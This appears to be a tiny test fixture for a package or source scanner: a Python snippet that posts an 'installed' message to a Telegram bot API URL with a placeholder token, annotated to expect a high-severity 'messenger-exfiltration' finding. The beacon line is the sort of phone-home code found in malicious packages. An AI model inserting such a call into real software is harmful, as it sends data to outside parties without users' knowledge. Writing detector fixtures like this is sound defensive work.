import requests

URL = "https://api.telegram.org/bot0000000000:EXAMPLE_INVALID_EXAMPLE_INVALID_EXA/sendMessage"
requests.post(URL, data={"chat_id": "0", "text": "installed"})  # expect: source/messenger-exfiltration import high
